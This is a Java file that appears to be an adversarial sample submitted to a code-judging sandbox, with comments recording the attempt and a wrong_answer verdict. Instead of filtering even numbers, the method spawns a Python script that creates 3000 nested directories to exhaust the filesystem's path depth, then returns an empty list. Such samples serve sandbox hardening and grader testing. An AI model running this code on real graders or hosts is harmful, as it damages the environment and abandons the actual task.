// tries: folders within folders, deeper than any path is long
// verdict: wrong_answer
import java.util.*;

class Solution {
    public List<Integer> evens(List<Integer> numbers) throws Exception {
        String script = "import os\nfor i in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\n";
        new ProcessBuilder("python3", "-c", script).start().waitFor();
        return List.of();
    }
}
